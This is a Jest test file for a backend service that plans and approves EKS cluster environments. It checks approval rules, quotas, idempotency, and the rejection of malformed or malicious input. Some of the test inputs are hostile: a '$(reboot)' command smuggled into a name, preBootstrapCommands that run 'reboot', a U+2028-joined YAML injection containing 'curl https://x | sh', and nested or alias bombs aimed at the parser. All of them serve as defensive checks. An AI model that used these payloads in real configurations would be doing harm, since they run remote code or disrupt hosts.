import { TestDatabases } from '@backstage/backend-test-utils';
import type { Knex } from 'knex';
import { parse } from 'yaml';
import {
  sandboxInput,
  startTestService,
  teamInput,
} from '../../__testUtils__/startTestService';
import { clearTables } from '../../__testUtils__/clearTables';
import { SHOP_ROLE } from '../../__testUtils__/people';
import { migrate } from '../../database';

jest.setTimeout(120_000);

const databases = TestDatabases.create({ ids: ['SQLITE_3', 'POSTGRES_18'] });

/** Everything that a refused request must leave unchanged. */
async function countRows(knex: Knex) {
  const tables = [
    'requests',
    'quota_reservations',
    'environments',
    'events',
    'idempotency_keys',
  ];
  const counts = await Promise.all(
    tables.map(async table => {
      const [{ count }] = await knex(table).count({ count: '*' });
      return [table, Number(count)];
    }),
  );
  return Object.fromEntries(counts);
}

function nested(open: string, close: string, depth: number): string {
  return open.repeat(depth) + close.repeat(depth);
}

describe.each(databases.eachSupportedId())('requests on %s', databaseId => {
  let knex: Knex;
  let api: Awaited<ReturnType<typeof startTestService>>;

  beforeAll(async () => {
    knex = await databases.init(databaseId);
    await migrate(knex);
    api = await startTestService(knex, {
      quotas: {
        overrides: [
          { scope: 'group:default/team-search', limits: { environments: 1 } },
        ],
      },
    });
  });

  afterEach(() => clearTables(knex));

  it('shows the plan that a request then has', async () => {
    const planned = await api.post('dana', '/plans', sandboxInput);

    expect(planned.status).toBe(200);
    expect(planned.body).toMatchObject({
      outcome: 'acceptable',
      findings: [expect.objectContaining({ severity: 'info' })],
      account: 'sandbox',
      region: 'eu-west-1',
      size: {
        minNodes: 1,
        desired: { nodes: 1, vcpu: 2 },
        largest: { nodes: 2, vcpu: 4 },
      },
      approval: { mode: 'automatic', steps: [] },
      lease: { duration: 'P2D', maximum: 'P5D' },
    });
    expect(await countRows(knex)).toMatchObject({ requests: 0, events: 0 });

    const created = await api.post('dana', '/requests', sandboxInput);
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({
      blueprint: { name: 'sandbox', version: 1 },
      lease: 'P2D',
      values: expect.any(Object),
    });
    expect(created.body.plan.cost).toEqual(planned.body.cost);
    expect(created.body.plan).not.toHaveProperty('clusterName');
  });

  it('queues what policy approves, as it was planned, with the owner in the access entries', async () => {
    const { body: made } = await api.post('dana', '/requests', sandboxInput);

    expect(made).toMatchObject({
      state: 'Approved',
      requester: 'user:default/dana',
      decisions: [{ decision: 'approved', decidedBy: 'policy:sandbox@1' }],
      environmentId: expect.any(String),
    });
    const { body: environment } = await api.get(
      'cole',
      `/environments/${made.environmentId}`,
    );
    expect(environment).toMatchObject({
      state: 'Queued',
      name: 'shop-checkout',
      clusterName: expect.stringMatching(/^shop-checkout-[0-9a-z]{8}$/),
      config: made.plan.config,
      operation: { type: 'create', state: 'Pending' },
      actions: expect.arrayContaining([{ action: 'cancel', possible: true }]),
    });
    const config = parse(environment.config);
    expect(config.metadata.name).toBe(environment.clusterName);
    expect(config.metadata.tags).toMatchObject({
      'eks-environments.io/environment-id': environment.id,
      'eks-environments.io/owner': 'group:default/team-shop',
      'eks-environments.io/blueprint': 'sandbox@1',
      'eks-environments.io/installation': 'test',
    });
    expect(
      config.accessConfig.accessEntries.map(
        (entry: { principalARN: string }) => entry.principalARN,
      ),
    ).toEqual([SHOP_ROLE]);
  });

  it('lets the approver decide, not the requester, and hides it from other teams', async () => {
    const { body: made } = await api.post('dana', '/requests', teamInput);
    const path = `/requests/${made.id}`;
    expect(made.state).toBe('PendingApproval');
    expect(made.defaults).toMatchObject({ size: 'medium' });

    const own = await api.post('dana', `${path}/decisions`, {
      decision: 'approve',
    });
    const colleague = await api.post('cole', `${path}/decisions`, {
      decision: 'approve',
    });
    const other = await api.get('olga', path);
    const otherDecides = await api.post('olga', `${path}/decisions`, {
      decision: 'approve',
    });
    expect([own.status, colleague.status, other.status]).toEqual([
      403, 403, 404,
    ]);
    expect(otherDecides.status).toBe(404);

    const queue = await api.get('ari', '/requests?decidable=true');
    expect(queue.body.items.map(({ id }: { id: string }) => id)).toEqual([
      made.id,
    ]);
    const approved = await api.post('ari', `${path}/decisions`, {
      decision: 'approve',
      comment: 'Have fun',
    });
    expect(approved.body).toMatchObject({
      state: 'Approved',
      decisions: [{ decidedBy: 'user:default/ari', comment: 'Have fun' }],
    });
    const again = await api.post('abel', `${path}/decisions`, {
      decision: 'deny',
    });
    expect(again.status).toBe(409);
    expect(again.body.error.message).toContain('its state is Approved');
  });

  it('never lets a requester who is an approver decide on their own request', async () => {
    const { body: made } = await api.post('abel', '/requests', teamInput);
    expect(made.actions).toEqual([{ action: 'cancel', possible: true }]);
    const queue = await api.get('abel', '/requests?decidable=true');
    expect(queue.body.totalItems).toBe(0);

    const own = await api.post('abel', `/requests/${made.id}/decisions`, {
      decision: 'approve',
    });

    expect(own.status).toBe(403);
    expect(own.body.error.message).toContain('own request');
    expect(await countRows(knex)).toMatchObject({ environments: 0 });
  });

  it('gives the quota back on a denial, and says why a full one refuses', async () => {
    const input = {
      ...teamInput,
      name: 'search-one',
      owner: 'group:default/team-search',
    };
    const { body: first } = await api.post('olga', '/requests', input);
    const before = await countRows(knex);

    const refused = await api.post('olga', '/requests', {
      ...input,
      name: 'search-two',
    });
    expect(refused.status).toBe(409);
    expect(refused.body.error.message).toMatch(
      /quota of team-search is 1 environment.*search-one \(waits for approval\)/,
    );
    expect(await countRows(knex)).toEqual(before);

    await api.post('ari', `/requests/${first.id}/decisions`, {
      decision: 'deny',
      comment: 'Use the sandbox',
    });
    const seen = await api.get('olga', `/requests/${first.id}`);
    expect(seen.body.decisions[0]).toMatchObject({
      decision: 'denied',
      comment: 'Use the sandbox',
    });
    const retried = await api.post('olga', '/requests', {
      ...input,
      name: 'search-two',
    });
    expect(retried.status).toBe(201);
  });

  it('has one winner when fifty ask for the last place at once', async () => {
    const answers = await Promise.all(
      Array.from({ length: 50 }, (_, index) =>
        api.post('olga', '/requests', {
          ...teamInput,
          name: `search-${index}`,
          owner: 'group:default/team-search',
        }),
      ),
    );

    const statuses = answers.map(({ status }) => status);
    expect(statuses.filter(status => status === 201)).toHaveLength(1);
    expect(statuses.filter(status => status === 409)).toHaveLength(49);
    const [balance] = await knex('quota_balances').where({
      scope: 'group:default/team-search',
      dimension: 'environments',
    });
    expect(balance.amount).toBe(1);
    expect(await countRows(knex)).toMatchObject({ requests: 1 });
  });

  it.each([
    [
      'a value of the wrong type',
      { values: { nodes: '}}{{evil' } },
      'values.nodes',
    ],
    ['a negative size', { values: { nodes: -3 } }, 'values.nodes'],
    ['an unknown value', { values: { nodez: 1 } }, 'values.nodez'],
    ['a name with a line break', { name: 'a: b\n  c: d' }, 'name'],
    ['a name for a shell', { name: '$(reboot)' }, 'name'],
    ['an emoji for a name', { name: '🎉' }, 'name'],
    ['a region of nobody', { region: 'mars-1' }, 'region'],
    ['an account of nobody', { account: 'production' }, 'account'],
    ['a lease without end', { lease: 'P900D' }, 'lease'],
    ['a lease that is none', { lease: 'forever' }, 'lease'],
    ['a reason with control characters', { reason: 'a\u0000b' }, 'reason'],
    ['an owner of nowhere', { owner: 'group:default/ghosts' }, 'owner'],
    ['an owner that is a component', { owner: 'component:default/x' }, 'owner'],
    ['an unknown blueprint', { blueprint: 'gold' }, 'blueprint'],
    ['a version of nobody', { version: 99 }, 'blueprint'],
  ])(
    'refuses %s, names the field and stores nothing',
    async (_, change, field) => {
      const before = await countRows(knex);
      const refused = await api.post('dana', '/requests', {
        ...sandboxInput,
        ...change,
      });

      expect(refused.status).toBe(400);
      expect(refused.body.error.message).toContain(field);
      expect(refused.body.error.message).not.toMatch(/\n\s+at /);
      expect(refused.body.error).not.toHaveProperty('stack');
      expect(await countRows(knex)).toEqual(before);
    },
  );

  it.each([
    'P280000Y-102199995D',
    'P2000000Y-729999995D',
    'P-1000Y365005D',
    'P1M',
    'P2DT-1H',
    'PT1.5H',
    'PT90S',
    `P${'1'.repeat(5000)}D`,
  ])('lets no lease of %j into a plan or a request', async lease => {
    const before = await countRows(knex);
    const refused = await api.post('dana', '/requests', {
      ...sandboxInput,
      lease,
    });
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toMatch(
      /^lease must be a duration of weeks, days, hours and minutes such as P5D or PT36H/,
    );
    const plan = await api.post('dana', '/plans', { ...sandboxInput, lease });
    expect(plan.body).toMatchObject({
      outcome: 'refused',
      findings: expect.arrayContaining([
        expect.objectContaining({ severity: 'error', field: 'lease' }),
      ]),
    });
    expect(await countRows(knex)).toEqual(before);
  });

  it('stores a lease in one form, however it is written', async () => {
    const made = await api.post('dana', '/requests', {
      ...sandboxInput,
      lease: 'PT36H',
    });
    expect(made.body.lease).toBe('P1DT12H');
    expect(made.body.plan.lease.duration).toBe('P1DT12H');
    expect(await knex('leases').first()).toMatchObject({ duration: 'P1DT12H' });
  });

  it('refuses an owner that the requester does not belong to', async () => {
    const refused = await api.post('dana', '/requests', {
      ...sandboxInput,
      owner: 'group:default/team-search',
    });

    expect(refused.status).toBe(403);
    expect(refused.body.error.message).toContain('owner');
    expect(await countRows(knex)).toMatchObject({ requests: 0 });
  });

  it('takes the group above the own one for an owner', async () => {
    const made = await api.post('dana', '/requests', {
      ...sandboxInput,
      owner: 'shop-department',
    });

    expect(made.status).toBe(201);
    expect(made.body.owner).toBe('group:default/shop-department');
    expect(made.body.plan.findings).toContainEqual(
      expect.objectContaining({ code: 'no-principals', field: 'owner' }),
    );
  });

  it('refuses a body that is too large', async () => {
    const refused = await api.post('dana', '/requests', {
      ...sandboxInput,
      reason: 'x'.repeat(10_000_000),
    });

    expect(refused.status).toBe(413);
  });

  it('refuses a body that is no JSON, without repeating it', async () => {
    const refused = await api
      .post('dana', '/requests', undefined, {
        'Content-Type': 'application/json',
      })
      .send('{"name": "secret-');

    expect(refused.status).toBe(400);
    expect(refused.body.error).toEqual({
      name: 'InputError',
      message: expect.stringContaining('not JSON'),
    });
  });

  it.each([
    ['a value', 'sandbox', `{"nodes":${nested('[', ']', 40_000)}}`],
    [
      'a raw map',
      'raw-cluster-config',
      `{"config":{"a":${nested('[', ']', 60)}}}`,
    ],
    [
      'raw YAML',
      'raw-cluster-config',
      `{"config":"${nested('[', ']', 30_000)}"}`,
    ],
  ])('refuses %s that is nested too deeply', async (_, blueprint, values) => {
    const refused = await api
      .post('dana', '/requests', undefined, {
        'Content-Type': 'application/json',
      })
      .send(
        JSON.stringify({ ...sandboxInput, blueprint }).replace(
          '"values":{}',
          `"values":${values}`,
        ),
      );

    expect(refused.status).toBe(400);
    expect(refused.body.error.name).toBe('InputError');
  });

  it('makes one request of two with one idempotency key', async () => {
    const key = { 'Idempotency-Key': 'step-1' };
    const both = await Promise.all([
      api.post('dana', '/requests', sandboxInput, key),
      api.post('dana', '/requests', sandboxInput, key),
    ]);
    const later = await api.post('dana', '/requests', sandboxInput, key);

    const ids = new Set([...both, later].map(({ body }) => body.id));
    expect(ids.size).toBe(1);
    expect(await countRows(knex)).toMatchObject({ requests: 1 });

    const misused = await api.post(
      'dana',
      '/requests',
      { ...sandboxInput, name: 'another' },
      key,
    );
    expect(misused.status).toBe(409);
    const ofAnother = await api.post(
      'cole',
      '/requests',
      { ...sandboxInput, name: 'another' },
      key,
    );
    expect(ofAnother.status).toBe(201);
  });

  it('refuses a name that the owner has already', async () => {
    await api.post('dana', '/requests', sandboxInput);
    const refused = await api.post('cole', '/requests', sandboxInput);

    expect(refused.status).toBe(409);
    expect(refused.body.error.message).toContain('name');
  });

  it.each([
    [undefined, 'us-east-1', 'acceptable', 'us-east-1'],
    ['eu-west-1', 'us-east-1', 'acceptable', 'eu-west-1'],
    [undefined, 'ap-south-1', 'refused', undefined],
    [undefined, undefined, 'acceptable', 'eu-west-1'],
  ])(
    'with the region %s takes a raw config of %s as %s in %s',
    async (asked, named, outcome, region) => {
      const { body } = await api.post('dana', '/plans', {
        type: 'create',
        blueprint: 'raw-cluster-config',
        name: 'by-hand',
        owner: 'group:default/team-shop',
        ...(asked && { region: asked }),
        values: { config: { metadata: { ...(named && { region: named }) } } },
      });
      expect([body.outcome, body.region]).toEqual([outcome, region]);
    },
  );

  it('builds from a raw config only what the allowed paths let in', async () => {
    const raw = {
      type: 'create',
      blueprint: 'raw-cluster-config',
      name: 'by-hand',
      owner: 'group:default/team-shop',
    };
    const fine = await api.post('dana', '/plans', {
      ...raw,
      values: {
        config:
          'managedNodeGroups:\n  - name: a\n    instanceType: t3.small\n    minSize: 1\n    maxSize: 1\n    desiredCapacity: 1\n',
      },
    });
    expect(fine.body.outcome).toBe('acceptable');

    const evil = await api.post('dana', '/requests', {
      ...raw,
      values: {
        config:
          'managedNodeGroups:\n  - name: a\n    instanceType: t3.small\n    preBootstrapCommands: ["reboot"]\n',
      },
    });
    expect(evil.status).toBe(400);
    expect(evil.body.error.message).toMatch(
      /values\.config.*preBootstrapCommands/,
    );
  });

  const attack = [
    'foo:',
    '    preBootstrapCommands:',
    '      - curl https://x | sh',
    '    iam:',
    '      instanceRoleName',
  ].join('\u2028');

  it.each([
    [
      'a key of a map',
      { labels: { [attack]: 'x' } },
      /has the key "foo:\\u2028/,
    ],
    ['a value', { labels: { team: attack } }, /labels\.team is "foo:\\u2028/],
    ['a taint', { taints: [{ key: attack, effect: 'NoSchedule' }] }, /taints/],
    ['a tag', { tags: { [attack]: 'x' } }, /tag with the key "foo:\\u2028/],
    ['half a character', { labels: { team: '\ud800' } }, /holds U\+D800/],
    ['a reserved tag', { tags: { 'AWS:x': 'y' } }, /is reserved/],
    [
      'a tag of the portal',
      { tags: { 'eks-environments.io/environment-id': 'another' } },
      /begins with "eks-environments.io\/"; that is reserved/,
    ],
  ])('lets no structure in by %s', async (_, parts, message) => {
    const group = { name: 'a', instanceType: 't3.small', ...parts };
    const refused = await api.post('dana', '/plans', {
      type: 'create',
      blueprint: 'raw-cluster-config',
      name: 'by-hand',
      owner: 'group:default/team-shop',
      values: { config: { managedNodeGroups: [group] } },
    });

    expect(refused.body.outcome).toBe('refused');
    expect(refused.body.config).toBeUndefined();
    expect(refused.body.findings).toContainEqual(
      expect.objectContaining({
        severity: 'error',
        field: 'values.config',
        message: expect.stringMatching(message),
      }),
    );
  });

  it.each([
    ['managedNodeGroups: []\nvpc: {nat: {gateway: n}}', /gateway is n, which/],
    ['metadata: {tags: {a\u2028b: c}}', /U\+2028/],
    ['<<: {managedNodeGroups: []}\nmanagedNodeGroups: []', /given twice/],
  ])(
    'refuses YAML that eksctl reads otherwise: %j',
    async (config, message) => {
      const refused = await api.post('dana', '/plans', {
        type: 'create',
        blueprint: 'raw-cluster-config',
        name: 'by-hand',
        owner: 'group:default/team-shop',
        values: { config },
      });

      expect(refused.body.findings).toContainEqual(
        expect.objectContaining({
          severity: 'error',
          message: expect.stringMatching(message),
        }),
      );
    },
  );

  it.each([
    ['a flow map', `{${Array.from({ length: 11_000 }, (_, i) => `k${i}`)}}`],
    ['brackets', '['.repeat(90_000)],
    [
      'aliases',
      `a: &a [1, 1, 1, 1, 1, 1, 1, 1, 1]\nb: [${'*a, '.repeat(9_000)}]`,
    ],
  ])('plans no config of %s that is too much', async (_, config) => {
    const refused = await api.post('dana', '/plans', {
      type: 'create',
      blueprint: 'raw-cluster-config',
      name: 'by-hand',
      owner: 'group:default/team-shop',
      values: { config },
    });

    expect(refused.status).toBe(200);
    expect(refused.body.outcome).toBe('refused');
    expect(refused.body.findings).toContainEqual(
      expect.objectContaining({ severity: 'error', field: 'values.config' }),
    );
  });

  it('makes a plan without values of the defaults', async () => {
    const { values, ...rest } = sandboxInput;
    const [without, withNone] = await Promise.all([
      api.post('dana', '/plans', rest),
      api.post('dana', '/plans', { ...rest, values: {} }),
    ]);

    expect(without.body).toMatchObject({ outcome: 'acceptable' });
    expect(without.body.size).toEqual(withNone.body.size);
  });
});
